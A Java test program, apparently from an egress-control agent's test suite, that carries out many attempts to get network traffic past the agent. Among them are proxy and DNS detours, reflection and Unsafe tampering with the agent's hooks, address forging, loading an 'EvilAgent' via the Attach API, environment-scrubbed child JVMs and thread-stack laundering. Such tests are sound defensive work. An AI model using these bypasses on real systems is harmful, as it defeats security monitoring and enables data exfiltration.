package dev.egress.testapps.hostile;

import static dev.egress.testapps.Probe.urlConnection;
import static dev.egress.testapps.ResultLines.attempt;
import static dev.egress.testapps.ResultLines.oneLine;
import static dev.egress.testapps.ResultLines.report;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandleProxies;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Proxy;
import java.net.ProxySelector;
import java.net.Socket;
import java.net.SocketAddress;
import java.net.StandardProtocolFamily;
import java.net.URI;
import java.net.UnixDomainSocketAddress;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ForkJoinPool;
import java.util.concurrent.ForkJoinTask;
import java.util.concurrent.Future;
import java.util.concurrent.FutureTask;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.ScheduledThreadPoolExecutor;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;
import java.util.jar.Attributes;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;

/**
 * Attack programs against the egress agent: what a hostile notebook cell would try in order to get
 * data out. Prints one {@code RESULT <label> OK|DENIED|ERROR ...} line per attempt, in the format
 * of {@code dev.egress.testapps.Probe} (DENIED: some throwable in the cause chain has a message
 * starting with {@code Egress denied}). Run it as user code with {@code UserCode
 * dev.egress.testapps.hostile.Hostile}.
 *
 * <p>Arguments are actions separated into fields by {@code |} (hosts may contain ':' and '.'):
 *
 * <ul>
 *   <li>{@code socket|host|port}: {@code new Socket().connect(new InetSocketAddress(host, port))}
 *   <li>{@code lookup|name}: {@code InetAddress.getAllByName}
 *   <li>{@code isa|name|port}: {@code new InetSocketAddress(name, port)} (a lookup that never
 *       throws)
 *   <li>{@code forged|name|ip|port}: connect to {@code InetAddress.getByAddress(name, bytes-of-ip)}
 *   <li>{@code reverse|ip}: {@code getHostName()} and {@code getCanonicalHostName()}
 *   <li>{@code socks|proxyPort|mode|target|port}: SOCKS proxy on 127.0.0.1, target unresolved,
 *       literal (an InetAddress from a literal) or resolved (looked up locally)
 *   <li>{@code socks-sysprop|proxyPort|target|port}: {@code socksProxyHost} and a plain Socket
 *   <li>{@code proxy-urlconn|proxyHost|proxyPort|url}, {@code
 *       proxy-client|proxyHost|proxyPort|url}, {@code proxy-sysprop|proxyHost|proxyPort|url}: HTTP
 *       proxies
 *   <li>{@code redirect-client|url}: HttpClient with {@code Redirect.NORMAL}; {@code urlconn|url}:
 *       HttpURLConnection following redirects
 *   <li>{@code unix|path}: a Unix domain socket connect, then a write
 *   <li>{@code udp-dns|host|port|qname}: a DNS query datagram (DatagramSocket); {@code
 *       udp-dns-channel|host|port|qname}: the same through a DatagramChannel
 *   <li>{@code bridge-install-null}, {@code bridge-field-null}, {@code bridge-hooks-proxy}, {@code
 *       bridge-poison|name|ip}: tamper with the agent's bootstrap bridge
 *   <li>{@code holder-address|name|ip|port}: reflection on the resolved InetAddress's holder
 *   <li>{@code self-attach}: the Attach API on this very JVM
 *   <li>{@code helper-attach|mode}: a helper JVM attaches to this one and loads {@link EvilAgent}
 *       ({@code mode}: strip, redefine, unhook)
 *   <li>{@code spawn-java|scrub|action...}: a child {@code java} running Probe with the given
 *       action ({@code scrub}: keep or scrub the environment of JAVA_TOOL_OPTIONS and EGRESS_*)
 *   <li>{@code launder|host|port}: the connect runs on a new thread whose stack holds no user frame
 *       (a {@code Runnable} made by {@code MethodHandleProxies})
 *   <li>{@code launder-scheduled|host|port}, {@code launder-async|host|port}, {@code
 *       launder-fjp|host|port}, {@code launder-fork|host|port}: the same JDK-only task on a pool
 *       thread: {@code ScheduledThreadPoolExecutor.schedule(Callable)}, {@code
 *       CompletableFuture.supplyAsync} (the common pool), {@code ForkJoinPool.commonPool().submit},
 *       {@code ForkJoinTask.adapt(...).fork()}. A trailing field is ignored (a label suffix).
 * </ul>
 */
public final class Hostile {
  static final int TIMEOUT_MS = 3000;

  private Hostile() {}

  public static void main(String[] args) {
    for (String arg : args) {
      try {
        dispatch(arg);
      } catch (Throwable t) {
        report(arg, t);
      }
    }
    System.out.flush();
  }

  /**
   * Runs {@link #main} on a thread this (user) class starts: that thread carries it as requester.
   */
  public static void mainOnOwnThread(String[] args) throws InterruptedException {
    Thread t = new Thread(() -> main(args), "user-started");
    t.start();
    t.join();
  }

  private static void dispatch(String arg) throws Throwable {
    String[] f = arg.split("\\|", -1);
    switch (f[0]) {
      case "socket":
        attempt(arg, () -> socket(new InetSocketAddress(f[1], Integer.parseInt(f[2]))));
        break;
      case "lookup":
        attempt(arg, () -> lookup(f[1]));
        break;
      case "isa":
        attempt(
            arg,
            () -> {
              InetSocketAddress a = new InetSocketAddress(f[1], Integer.parseInt(f[2]));
              return a.isUnresolved()
                  ? "unresolved"
                  : "resolved " + a.getAddress().getHostAddress();
            });
        break;
      case "forged":
        attempt(
            arg,
            () -> {
              byte[] bytes = InetAddress.getByName(f[2]).getAddress();
              return socket(
                  new InetSocketAddress(
                      InetAddress.getByAddress(f[1], bytes), Integer.parseInt(f[3])));
            });
        break;
      case "reverse":
        attempt(
            arg,
            () -> {
              InetAddress a = InetAddress.getByName(f[1]);
              InetAddress b = InetAddress.getByName(f[1]);
              return "host=" + a.getHostName() + " canonical=" + b.getCanonicalHostName();
            });
        break;
      case "socks":
        attempt(arg, () -> socks(Integer.parseInt(f[1]), f[2], f[3], Integer.parseInt(f[4])));
        break;
      case "socks-sysprop":
        attempt(
            arg,
            () -> {
              System.setProperty("socksProxyHost", "127.0.0.1");
              System.setProperty("socksProxyPort", f[1]);
              try {
                return socket(InetSocketAddress.createUnresolved(f[2], Integer.parseInt(f[3])));
              } finally {
                System.clearProperty("socksProxyHost");
                System.clearProperty("socksProxyPort");
              }
            });
        break;
      case "proxy-urlconn":
        attempt(
            arg,
            () ->
                urlConnection(
                    f[3],
                    new Proxy(
                        Proxy.Type.HTTP, new InetSocketAddress(f[1], Integer.parseInt(f[2])))));
        break;
      case "proxy-sysprop":
        attempt(
            arg,
            () -> {
              System.setProperty("http.proxyHost", f[1]);
              System.setProperty("http.proxyPort", f[2]);
              System.setProperty("https.proxyHost", f[1]);
              System.setProperty("https.proxyPort", f[2]);
              System.setProperty("http.nonProxyHosts", "");
              return urlConnection(f[3], null);
            });
        break;
      case "proxy-client":
        attempt(
            arg,
            () ->
                httpClient(
                    f[3],
                    ProxySelector.of(new InetSocketAddress(f[1], Integer.parseInt(f[2]))),
                    HttpClient.Redirect.NEVER));
        break;
      case "redirect-client":
        attempt(arg, () -> httpClient(f[1], null, HttpClient.Redirect.NORMAL));
        break;
      case "urlconn":
        attempt(arg, () -> urlConnection(f[1], null));
        break;
      case "unix":
        attempt(arg, () -> unix(f[1]));
        break;
      case "udp-dns":
        attempt(arg, () -> udpDns(f[1], Integer.parseInt(f[2]), f[3], false));
        break;
      case "udp-dns-channel":
        attempt(arg, () -> udpDns(f[1], Integer.parseInt(f[2]), f[3], true));
        break;
      case "bridge-install-null":
        attempt(
            arg,
            () -> {
              Method m = bridge().getMethod("install", hooksInterface());
              m.invoke(null, new Object[] {null});
              return "install(null) returned";
            });
        break;
      case "bridge-field-null":
        attempt(
            arg,
            () -> {
              Field h = hooksField();
              h.setAccessible(true);
              h.set(null, null);
              return "hooks set to null";
            });
        break;
      case "unsafe-null-hooks":
        attempt(
            arg,
            () -> {
              Field hooks = hooksField();
              Field theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
              theUnsafe.setAccessible(true); // jdk.unsupported opens sun.misc to everyone
              Object u = theUnsafe.get(null);
              Class<?> uc = u.getClass();
              Object base = uc.getMethod("staticFieldBase", Field.class).invoke(u, hooks);
              long offset = (long) uc.getMethod("staticFieldOffset", Field.class).invoke(u, hooks);
              uc.getMethod("putObject", Object.class, long.class, Object.class)
                  .invoke(u, base, offset, null);
              return "wrote null into " + hooks;
            });
        break;
      case "bridge-hooks-proxy":
        attempt(
            arg,
            () -> {
              Class<?> iface = hooksInterface();
              // Every hook does nothing (void, or null: no requester, no denial): an allow-all
              // agent.
              Object allowAll =
                  java.lang.reflect.Proxy.newProxyInstance(
                      iface.getClassLoader(), new Class<?>[] {iface}, (p, m, a) -> null);
              bridge().getMethod("install", iface).invoke(null, allowAll);
              return "allow-all hooks installed";
            });
        break;
      case "bridge-poison":
        attempt(
            arg,
            () -> {
              Method m = bridge().getMethod("resolved", InetAddress[].class, String.class);
              m.invoke(null, new InetAddress[] {InetAddress.getByName(f[2])}, f[1]);
              return "told the bridge that " + f[1] + " resolved to " + f[2];
            });
        break;
      case "internal-unsafe":
        // jdk.internal.misc.Unsafe: defines classes into the boot loader (where they count as JDK
        // code) and writes any memory; reachable only if java.base exports the package to us.
        attempt(
            arg,
            () -> {
              Class<?> unsafe = Class.forName("jdk.internal.misc.Unsafe");
              Object u = unsafe.getMethod("getUnsafe").invoke(null);
              return "got " + u.getClass().getName();
            });
        break;
      case "holder-address":
        attempt(arg, () -> holderAddress(f[1], f[2], Integer.parseInt(f[3])));
        break;
      case "self-attach":
        attempt(arg, Hostile::selfAttach);
        break;
      case "helper-attach":
        attempt(arg, () -> helperAttach(f[1]));
        break;
      case "spawn-java":
        attempt(arg, () -> spawnJava(f[1].equals("scrub"), Arrays.copyOfRange(f, 2, f.length)));
        break;
      case "launder":
        attempt(arg, () -> launder(f[1], Integer.parseInt(f[2])));
        break;
      case "launder-scheduled":
      case "launder-async":
      case "launder-fjp":
      case "launder-fork":
        attempt(arg, () -> launderOnPool(f[0], f[1], Integer.parseInt(f[2])));
        break;
      case "sleep":
        Thread.sleep(Long.parseLong(f[1]));
        break;
      default:
        System.out.println(
            "RESULT "
                + arg
                + " ERROR top=IllegalArgumentException egress=- types=- msg=unknown action");
    }
  }

  // --- plain connects and lookups ----------------------------------------------------------------

  static String socket(SocketAddress target) throws IOException {
    try (Socket s = new Socket()) {
      s.connect(target, TIMEOUT_MS);
      return "connected " + s.getInetAddress().getHostAddress() + ":" + s.getPort();
    }
  }

  static String lookup(String name) throws IOException {
    List<String> out = new ArrayList<>();
    for (InetAddress a : InetAddress.getAllByName(name)) {
      out.add(a.getHostAddress());
    }
    return String.join(",", out);
  }

  // --- proxies
  // ------------------------------------------------------------------------------------

  static String socks(int proxyPort, String mode, String target, int port) throws IOException {
    InetSocketAddress dest;
    switch (mode) {
      case "unresolved":
        dest = InetSocketAddress.createUnresolved(target, port);
        break;
      case "literal": // an address with no name: what an IP-level check sees
        dest =
            new InetSocketAddress(
                InetAddress.getByAddress(InetAddress.getByName(target).getAddress()), port);
        break;
      default:
        dest = new InetSocketAddress(target, port);
    }
    Proxy proxy = new Proxy(Proxy.Type.SOCKS, new InetSocketAddress("127.0.0.1", proxyPort));
    try (Socket s = new Socket(proxy)) {
      s.connect(dest, TIMEOUT_MS);
      s.getOutputStream().write("secret-over-socks\n".getBytes(StandardCharsets.UTF_8));
      s.getOutputStream().flush();
      return "connected through SOCKS to " + dest;
    }
  }

  static String httpClient(String url, ProxySelector proxy, HttpClient.Redirect redirect)
      throws Throwable {
    HttpClient.Builder b =
        HttpClient.newBuilder()
            .connectTimeout(Duration.ofMillis(TIMEOUT_MS))
            .followRedirects(redirect);
    if (proxy != null) {
      b.proxy(proxy);
    }
    HttpRequest request =
        HttpRequest.newBuilder(URI.create(url))
            .timeout(Duration.ofMillis(TIMEOUT_MS))
            .GET()
            .build();
    HttpResponse<String> r = b.build().send(request, HttpResponse.BodyHandlers.ofString());
    return "status=" + r.statusCode() + " uri=" + r.uri() + " body=" + oneLine(r.body());
  }

  // --- unix sockets, UDP
  // ----------------------------------------------------------------------------

  static String unix(String path) throws IOException {
    try (SocketChannel ch = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      ch.connect(UnixDomainSocketAddress.of(path));
      try {
        ch.write(
            ByteBuffer.wrap(
                "GET /containers/json HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII)));
      } catch (IOException e) {
        // the stand-in server closes at once: the connect is what counts
      }
      return "connected to " + path;
    }
  }

  /** A standard DNS query (A record) for {@code qname}: what a hand-rolled resolver would send. */
  static byte[] dnsQuery(String qname) {
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    b.writeBytes(new byte[] {0x13, 0x37, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0});
    for (String label : qname.split("\\.")) {
      byte[] l = label.getBytes(StandardCharsets.US_ASCII);
      b.write(l.length);
      b.writeBytes(l);
    }
    b.writeBytes(new byte[] {0, 0, 1, 0, 1});
    return b.toByteArray();
  }

  static String udpDns(String host, int port, String qname, boolean channel) throws IOException {
    byte[] q = dnsQuery(qname);
    InetSocketAddress target = new InetSocketAddress(InetAddress.getByName(host), port);
    if (channel) {
      try (DatagramChannel ch = DatagramChannel.open()) {
        return "sent " + ch.send(ByteBuffer.wrap(q), target);
      }
    }
    try (DatagramSocket s = new DatagramSocket()) {
      s.send(new DatagramPacket(q, q.length, target));
      return "sent " + q.length;
    }
  }

  // --- the agent's own state
  // ----------------------------------------------------------------------

  static Class<?> bridge() throws ClassNotFoundException {
    return Class.forName("dev.egress.bootstrap.EgressBridge", false, null);
  }

  /**
   * The bridge's field holding the agent's hooks ({@code hooks}, or {@code HOOKS} once it became
   * static final).
   */
  static Field hooksField() throws ReflectiveOperationException {
    for (Field f : bridge().getDeclaredFields()) {
      if (f.getType().getName().equals("dev.egress.bootstrap.EgressHooks")) {
        return f;
      }
    }
    throw new NoSuchFieldException("no EgressHooks field in the bridge");
  }

  static Class<?> hooksInterface() throws ClassNotFoundException {
    return Class.forName("dev.egress.bootstrap.EgressHooks", false, null);
  }

  /**
   * Resolves {@code name}, then rewrites the address inside the very instance the resolver
   * returned.
   */
  static String holderAddress(String name, String ip, int port) throws Throwable {
    InetAddress resolved = InetAddress.getByName(name);
    Field holderField = InetAddress.class.getDeclaredField("holder");
    holderField.setAccessible(true); // needs --add-opens java.base/java.net
    Object holder = holderField.get(resolved);
    Field address = holder.getClass().getDeclaredField("address");
    address.setAccessible(true);
    byte[] b = InetAddress.getByName(ip).getAddress();
    address.setInt(
        holder,
        ((b[0] & 0xff) << 24) | ((b[1] & 0xff) << 16) | ((b[2] & 0xff) << 8) | (b[3] & 0xff));
    return "rewrote "
        + name
        + " to "
        + resolved
        + "; "
        + socket(new InetSocketAddress(resolved, port));
  }

  // --- dynamic attach
  // -------------------------------------------------------------------------------

  static String selfAttach() throws Throwable {
    Class<?> vm =
        ClassLoader.getSystemClassLoader().loadClass("com.sun.tools.attach.VirtualMachine");
    Object machine =
        vm.getMethod("attach", String.class)
            .invoke(null, String.valueOf(ProcessHandle.current().pid()));
    vm.getMethod("detach").invoke(machine);
    return "attached to self";
  }

  /** Writes a jar holding {@link EvilAgent} with an Agent-Class manifest. */
  static Path evilAgentJar() throws IOException {
    Path jar = Files.createTempFile("evil-agent", ".jar");
    Manifest mf = new Manifest();
    mf.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
    mf.getMainAttributes().putValue("Agent-Class", EvilAgent.class.getName());
    mf.getMainAttributes().putValue("Can-Redefine-Classes", "true");
    mf.getMainAttributes().putValue("Can-Retransform-Classes", "true");
    try (OutputStream fo = Files.newOutputStream(jar);
        JarOutputStream out = new JarOutputStream(fo, mf)) {
      for (Class<?> c : new Class<?>[] {EvilAgent.class, EvilAgent.Restore.class}) {
        String entry = c.getName().replace('.', '/') + ".class";
        out.putNextEntry(new JarEntry(entry));
        try (InputStream in = Hostile.class.getClassLoader().getResourceAsStream(entry)) {
          out.write(in.readAllBytes());
        }
        out.closeEntry();
      }
    }
    return jar;
  }

  static String java() {
    return Paths.get(System.getProperty("java.home"), "bin", "java").toString();
  }

  static String classPath() throws Exception {
    return Paths.get(Hostile.class.getProtectionDomain().getCodeSource().getLocation().toURI())
        .toString();
  }

  /**
   * A helper JVM (not this one: self-attach is off by default) attaches to this JVM and loads
   * EvilAgent.
   */
  static String helperAttach(String mode) throws Throwable {
    Path jar = evilAgentJar();
    ProcessBuilder pb =
        new ProcessBuilder(
            java(),
            "-cp",
            classPath(),
            AttachHelper.class.getName(),
            String.valueOf(ProcessHandle.current().pid()),
            jar.toString(),
            mode);
    pb.environment().remove("JAVA_TOOL_OPTIONS");
    pb.redirectErrorStream(true);
    Process p = pb.start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    if (!p.waitFor(30, TimeUnit.SECONDS) || p.exitValue() != 0) {
      throw new IOException("attach helper failed: " + oneLine(out));
    }
    return "helper: " + oneLine(out);
  }

  // --- child processes
  // ------------------------------------------------------------------------------

  static String spawnJava(boolean scrub, String[] probeActions) throws Throwable {
    List<String> cmd =
        new ArrayList<>(List.of(java(), "-cp", classPath(), "dev.egress.testapps.Probe"));
    cmd.addAll(Arrays.asList(probeActions));
    ProcessBuilder pb = new ProcessBuilder(cmd);
    if (scrub) {
      pb.environment()
          .keySet()
          .removeIf(
              k ->
                  k.equals("JAVA_TOOL_OPTIONS")
                      || k.equals("JDK_JAVA_OPTIONS")
                      || k.equals("_JAVA_OPTIONS")
                      || k.startsWith("EGRESS_"));
    }
    pb.redirectErrorStream(true);
    Process p = pb.start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    p.waitFor(30, TimeUnit.SECONDS);
    StringBuilder results = new StringBuilder();
    for (String line : out.split("\n")) {
      if (line.startsWith("RESULT ")) {
        System.out.println("CHILD" + line); // "CHILDRESULT <label> ..."
        results.append(line, 7, Math.min(line.length(), 60)).append("; ");
      }
    }
    return "child exit=" + p.exitValue() + " " + oneLine(results.toString());
  }

  // --- caller laundering
  // ----------------------------------------------------------------------------

  /**
   * Caller laundering: the lookup and the connect run on a fresh thread whose task is a {@code
   * FutureTask} around a JDK-made {@code Callable} proxy of a bound method handle of {@code new
   * Socket(host, port)}. No frame of this (user) class is on that thread's stack.
   */
  static String launder(String host, int port) throws Throwable {
    Callable<Object> c = jdkOnly(Callable.class, host, port);
    FutureTask<Object> task = new FutureTask<>(c);
    Thread t = new Thread(task, "laundered");
    t.start();
    return connected(task, c);
  }

  /**
   * The pool {@code launder-scheduled} uses: set by {@link PoolReuse}, else one of this class's
   * own.
   */
  private static ScheduledExecutorService scheduler;

  public static void useScheduler(ScheduledExecutorService s) {
    scheduler = s;
  }

  /** The same JDK-only task as {@link #launder}, run by a pool's worker thread. */
  static String launderOnPool(String how, String host, int port) throws Throwable {
    Callable<Object> c = jdkOnly(Callable.class, host, port);
    Object via = c;
    Future<?> f;
    switch (how) {
      case "launder-scheduled":
        if (scheduler == null) {
          ScheduledThreadPoolExecutor own = new ScheduledThreadPoolExecutor(1);
          own.setKeepAliveTime(1, TimeUnit.SECONDS);
          own.allowCoreThreadTimeOut(true); // lets the JVM exit
          scheduler = own;
        }
        f = scheduler.schedule(c, 0, TimeUnit.MILLISECONDS);
        break;
      case "launder-async":
        if (new CompletableFuture<>().defaultExecutor() != ForkJoinPool.commonPool()) {
          throw new IllegalStateException(
              "supplyAsync would not run on the common pool (parallelism "
                  + ForkJoinPool.getCommonPoolParallelism()
                  + ")");
        }
        Supplier<Object> s = jdkOnly(Supplier.class, host, port);
        via = s;
        f = CompletableFuture.supplyAsync(s);
        break;
      case "launder-fjp":
        f = ForkJoinPool.commonPool().submit(c);
        break;
      default:
        f = ForkJoinTask.adapt(c).fork(); // from this thread, not a worker: to the common pool
    }
    return connected(f, via) + " pool-size=" + ForkJoinPool.commonPool().getPoolSize();
  }

  /** A JDK-made proxy of {@code iface} whose one method is {@code new Socket(host, port)}. */
  @SuppressWarnings("unchecked")
  static <T> T jdkOnly(Class<?> iface, String host, int port) throws ReflectiveOperationException {
    MethodHandle ctor =
        MethodHandles.publicLookup()
            .findConstructor(
                Socket.class, MethodType.methodType(void.class, String.class, int.class));
    return (T)
        MethodHandleProxies.asInterfaceInstance(
            iface, MethodHandles.insertArguments(ctor, 0, host, port));
  }

  /**
   * Waits for the task without helping to run it (a future's {@code get} may run a queued fork/join
   * task on the waiting thread, whose stack holds this class), then reports the socket it made.
   */
  static String connected(Future<?> f, Object via) throws Throwable {
    long deadline = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(TIMEOUT_MS * 2L);
    while (!f.isDone() && System.nanoTime() < deadline) {
      Thread.sleep(5);
    }
    Socket s;
    try {
      s = (Socket) f.get(1, TimeUnit.MILLISECONDS);
    } catch (ExecutionException e) {
      throw e.getCause() == null ? e : e.getCause();
    }
    try (s) {
      return "connected "
          + s.getInetAddress().getHostAddress()
          + ":"
          + s.getPort()
          + " via "
          + via.getClass().getName()
          + " of "
          + via.getClass().getClassLoader();
    }
  }
}
